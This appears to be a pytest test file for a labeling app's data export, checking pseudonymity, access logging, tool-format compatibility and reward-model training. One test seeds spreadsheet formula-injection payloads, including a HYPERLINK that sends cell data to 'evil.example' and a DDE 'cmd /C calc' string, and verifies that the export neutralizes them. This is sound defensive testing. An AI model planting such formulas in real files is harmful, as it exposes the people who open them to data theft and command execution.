"""What leaves the app: under pseudonyms, as other tools read it, without what nobody should learn from; and a reward model learns from it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
import torch
from sqlalchemy import insert, select, update

from base_model.errors import UserError
from base_model.video.store import ClipStore, NewClip
from recipes import reward_model
from recipes.pairs import load_pairs
from recipes.shapes.prompts import make_prompts
from recipes.shapes.render import DEMO_CLIP, render, sample_scene
from reward.app import exporting
from reward.app.exporting import FORMATS, NAMES, Format, export, export_rankings, without_formulas
from reward.app.routes import keeping
from reward.app.schema import clip, event, person, person_private, private_text, prompt
from reward.app.store import Store, new_id
from reward.comparisons import Clip, load_comparisons
from reward.importers.kling import read_videoalign
from reward.importers.label_studio import read_label_studio
from reward.importers.trl import read_trl
from reward.matcher import Matcher, MatcherSize, save_matcher
from tests.reward.app.conftest import PROMPTS, Client, add_clips, add_member, add_project

EVIL = '=HYPERLINK("http://evil.example/"&A1,"win")'
Row = dict[str, Any]


@pytest.fixture
def said(monkeypatch: pytest.MonkeyPatch) -> list[Row]:
    """What labelers answered, in the words of `labeling.events_of`; filled by a test."""
    rows: list[Row] = []
    shown: list[tuple[str, str]] = []
    room = SimpleNamespace(events_of=lambda store, project_id: iter(rows), demonstrations_of=lambda store, project_id: shown, shown=shown)
    monkeypatch.setattr(exporting, "labeling", lambda: room)
    return rows


def answers(store: Store, project_id: str, people: list[str], *, dimension: str = "overall", gold: bool = False) -> list[Row]:
    """Everybody ranks the takes of every prompt: the first best, and so on."""
    with store.reading() as db:
        pseudonyms = [db.execute(select(person.c.pseudonym).where(person.c.id == each)).scalar_one() for each in people]
        rows = db.execute(select(clip).where(clip.c.project_id == project_id)).all()
    takes: dict[str, list[Any]] = {}
    for row in sorted(rows, key=lambda row: row.row["seed"]):
        takes.setdefault(row.prompt_id, []).append(row)
    return [
        {
            "event_id": f"{number}-{who}-{dimension}-{gold}", "task_id": f"t{number}", "prompt_id": prompt_id, "annotator_id": who, "dimension": dimension,
            "clip_ids": [row.clip_id for row in group], "ranks": [place + 1 for place in range(len(group))], "is_gold": gold, "gold_ok": who == pseudonyms[0] if gold else None,
            "lead_time_ms": 4_000, "created_at": "2026-01-01T00:00:00.000+00:00",
        }
        for number, (prompt_id, group) in enumerate(sorted(takes.items()))
        for who in pseudonyms
    ]  # fmt: skip


@pytest.fixture
def project_id(store: Store) -> str:
    found = add_project(store)
    add_clips(store, found, takes=2, files=False)
    return found


@pytest.fixture
def people_of(store: Store, project_id: str) -> list[str]:
    return [add_member(store, login, "labeler", project_id=project_id) for login in ("zoe-login", "yann-login")]


def test_the_folder_of_rankings_holds_what_was_said_under_pseudonyms_with_who_is_reliable(
    store: Store, project_id: str, people_of: list[str], said: list[Row], tmp_path: Path
) -> None:
    said += answers(store, project_id, people_of) + answers(store, project_id, people_of, gold=True)
    written = export_rankings(store, project_id, tmp_path / "out", by="system")
    data = load_comparisons(tmp_path / "out")
    assert written.answers == len(data.events) == 2 * len(PROMPTS)
    assert {event.event_id: (event.clip_ids, event.ranks, event.annotator_id) for event in data.events} == {
        row["event_id"]: (tuple(row["clip_ids"]), tuple(row["ranks"]), row["annotator_id"]) for row in said if not row["is_gold"]
    }
    assert {prompt.text for prompt in data.prompts.values()} == set(PROMPTS)
    assert [(each.pool, each.reliability, each.n_events) for each in (data.annotators[row["annotator_id"]] for row in said[:2])] == [("people", 1.0, 3), ("people", 0.0, 3)]
    one = next(iter(data.clips.values()))
    assert (one.width, one.fps, one.path) == (128, 12.0, f"clips/{one.clip_id}.mkv") and json.loads(one.safety_json)["verdict"] == "allow"
    again = export_rankings(store, project_id, tmp_path / "out", by="system", gold=True)
    assert again.answers == 4 * len(PROMPTS) and sum(event.is_gold for event in load_comparisons(tmp_path / "out").events) == 2 * len(PROMPTS)


@pytest.mark.parametrize("state", ["restricted", "withdrawn", "deleted"])
def test_clips_that_are_not_live_are_in_no_export_nor_what_was_said_of_them(
    store: Store, project_id: str, people_of: list[str], said: list[Row], state: str, tmp_path: Path
) -> None:
    said += answers(store, project_id, people_of)
    gone = said[0]["clip_ids"][1]
    with store.writing() as db:
        db.execute(update(clip).where(clip.c.clip_id == gone).values(state=state))
    exporting.labeling().shown += [(PROMPTS[0], gone), (PROMPTS[1], said[-1]["clip_ids"][0])]
    for kind in FORMATS:
        if kind != "videoalign":
            content = _content(export(store, project_id, kind, tmp_path / kind, by="system").path)
            assert gone.encode() not in content and said[-1]["clip_ids"][0].encode() in content, kind


def test_nothing_that_is_exported_names_anybody(store: Store, project_id: str, people_of: list[str], said: list[Row], tmp_path: Path) -> None:
    with store.writing() as db:
        for number, person_id in enumerate(people_of):
            db.execute(insert(private_text), {"id": new_id("x"), "person_id": person_id, "text": f"my own words {number}", "created_at": store.now()})
    with store.reading() as db:
        rows = db.execute(select(person_private)).all()
        names = [each.encode() for row in rows for each in (row.login, row.name, row.password_hash)] + [b"my own words"] + [each.encode() for each in people_of]
    said += answers(store, project_id, people_of, dimension="VQ")
    exporting.labeling().shown.append((PROMPTS[0], said[0]["clip_ids"][0]))
    for kind in FORMATS:
        content = _content(export(store, project_id, kind, tmp_path / kind, by="system").path)
        assert PROMPTS[0].encode() in content and not [name for name in names if name in content], kind


@pytest.mark.parametrize(("kind", "read"), [("videoalign", read_videoalign), ("label-studio", read_label_studio), ("trl", read_trl)])
def test_other_tools_formats_hold_the_same_preferences(
    store: Store, project_id: str, people_of: list[str], said: list[Row], kind: Format, read: Callable[[Path], Any], tmp_path: Path
) -> None:
    said += answers(store, project_id, people_of, dimension="VQ")
    imported = read(export(store, project_id, kind, tmp_path / "out", by="system").path)
    texts = {prompt.prompt_id: prompt.text for prompt in imported.prompts}
    paths = {each.clip_id: each.path for each in imported.clips}
    found = {
        (texts[event.prompt_id], tuple(paths[each] for each in sorted(event.clip_ids, key=lambda each: event.ranks[event.clip_ids.index(each)] or 9))) for event in imported.events
    }
    assert found == {(row["prompt_id"], tuple(f"clips/{each}.mkv" for each in row["clip_ids"])) for row in said}


def test_a_table_holds_no_formula_that_a_spreadsheet_would_run(store: Store, people_of: list[str], said: list[Row], tmp_path: Path) -> None:
    project_id = add_project(store, "evil")
    add_clips(store, project_id, [EVIL, "+1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1"], takes=2, files=False)
    said += answers(store, project_id, people_of[:1], dimension="VQ")
    path = export(store, project_id, "videoalign", tmp_path / "out", by="system").path
    cells = [cell for row in csv.reader(io.StringIO(path.read_text(), newline="")) for cell in row]
    assert f"'{EVIL}" in cells and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert without_formulas("x" * 200_000) == "x" * 200_000 + "\r\n"
    assert without_formulas('a,-1.5\r\n"-x\ny",+2\r\n') == 'a,-1.5\r\n"\'-x\ny",+2\r\n'


def test_readers_of_a_project_download_it_and_what_was_given_out_is_logged(
    store: Store, project_id: str, people_of: list[str], said: list[Row], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    said += answers(store, project_id, people_of, dimension="VQ")
    exporting.labeling().shown.append((PROMPTS[0], said[0]["clip_ids"][0]))
    for role in ("lead", "auditor", "reviewer", "senior", "child_safety"):
        add_member(store, role, role, project_id=project_id)
    for role in ("lead", "auditor"):
        client = Client(store, role)
        for kind in FORMATS:
            answer = client.get(f"/api/projects/{project_id}/export/{kind}")
            assert answer.status_code == 200 and NAMES[kind] in answer.headers["content-disposition"]
            digest = hashlib.sha256(answer.content).hexdigest()
            with store.reading() as db:
                last = db.execute(select(event).order_by(event.c.seq.desc()).limit(1)).one()
            assert (last.kind, last.actor, last.subject) == ("exported", client.me.pseudonym, project_id)
            assert json.loads(last.body)["sha256"] == digest == answer.headers["x-sha256"]
    assert not list(tmp_path.glob("rushes-export-*")), "nothing is left on the server's disk"
    for role in ("zoe-login", "reviewer", "senior", "child_safety"):
        assert Client(store, role).get(f"/api/projects/{project_id}/export/parquet").status_code == 404
    lead = Client(store, "lead")
    assert lead.get(f"/api/projects/{add_project(store, 'other')}/export/parquet").status_code == 404
    assert lead.get(f"/api/projects/{project_id}/export/pickle").status_code == 422
    with keeping._one:
        assert lead.get(f"/api/projects/{project_id}/export/trl").status_code == 429
    assert lead.get(f"/api/projects/{project_id}/export/trl").status_code == 200


def test_where_there_is_nothing_to_export_one_line_says_so(store: Store, project_id: str, people_of: list[str], said: list[Row], tmp_path: Path) -> None:
    add_member(store, "lead", "lead", project_id=project_id)
    client = Client(store, "lead")
    for kind in FORMATS:
        answer = client.get(f"/api/projects/{project_id}/export/{kind}")
        assert answer.status_code == 422 and "to export" in answer.json()["detail"], kind
    said += answers(store, project_id, people_of) + answers(store, project_id, people_of, dimension="motion")
    with pytest.raises(UserError, match=r"no answers in the dimension colour to export.*: motion, overall"):
        export_rankings(store, project_id, tmp_path / "out", by="system", dimension="colour")
    assert "2 dimensions" in client.get(f"/api/projects/{project_id}/export/trl").json()["detail"]
    assert client.get(f"/api/projects/{project_id}/export/trl?dimension=motion").status_code == 200


def test_a_reward_model_learns_from_what_was_exported_and_sft_reads_the_demonstrations(store: Store, said: list[Row], tmp_path: Path) -> None:
    project_id, people = add_project(store, "shapes"), [add_member(store, login, "labeler") for login in ("zoe", "yann")]
    rng, asked = np.random.default_rng(0), make_prompts(16, seed=5, split="train")
    new = [NewClip(render(sample_scene(each, rng, clip=DEMO_CLIP), DEMO_CLIP), each.text, each.prompt_id, seed, {"steps": 1}, "test", 12.0) for each in asked for seed in range(3)]
    rows = ClipStore(tmp_path / "clips").add_many(new, preview=False)
    with store.writing() as db:
        for each in asked:
            db.execute(insert(prompt), {"project_id": project_id, "prompt_id": each.prompt_id, "text": each.text, "lang": "en", "kind": ""})
        for row in rows:
            told = {"id": new_id("c"), "project_id": project_id, "clip_id": row.clip_id, "prompt_id": row.prompt_id, "run": "test", "row": vars(Clip.of(row))}
            db.execute(insert(clip), {**told, "verdict": "allow", "score": 0.0, "decision": {"verdict": "allow", "rulings": []}, "state": "live", "created_at": store.now()})
    said += answers(store, project_id, people)
    exporting.labeling().shown += [("a caption that somebody mended", rows[0].clip_id), (asked[1].text, rows[3].clip_id)]
    store_folder = ["--out", str(store.folder), "--project", "shapes"]

    def run(*words: str) -> int:
        from recipes.cli import main

        return main(["app", "export", *words, *store_folder])

    assert run(str(tmp_path / "rankings")) == 0
    torch.manual_seed(0)
    save_matcher(tmp_path / "matcher.safetensors", Matcher(MatcherSize(slots=2, pixels=8, deep=8, time=8, answer=8, text=16)))
    learning = reward_model.Config(out=tmp_path / "model", comparisons=tmp_path / "rankings", clips=tmp_path / "clips", matcher=tmp_path / "matcher.safetensors", checks=0)
    reward_model.main(learning)
    card = json.loads((tmp_path / "model" / "reward_card.json").read_text())
    data = load_comparisons(tmp_path / "rankings")
    assert len(data.events) == 32 and card["fps"] == [12.0]

    assert run(str(tmp_path / "pairs"), "--format", "demonstrations", "--clips", str(tmp_path / "clips")) == 0
    pairs = load_pairs(tmp_path / "pairs")
    assert pairs.texts == ("a caption that somebody mended", asked[1].text)
    torch.testing.assert_close(pairs.videos[0].float() / 255, ClipStore(tmp_path / "clips").load(rows[0].clip_id))


def _content(path: Path) -> bytes:
    """Everything in a file, the columns of parquet spelled out."""
    if path.suffix != ".zip":
        return path.read_bytes()
    import pyarrow.parquet as pq

    with zipfile.ZipFile(path) as file:
        return b"".join(json.dumps(pq.read_table(io.BytesIO(file.read(name))).to_pylist()).encode() for name in file.namelist())
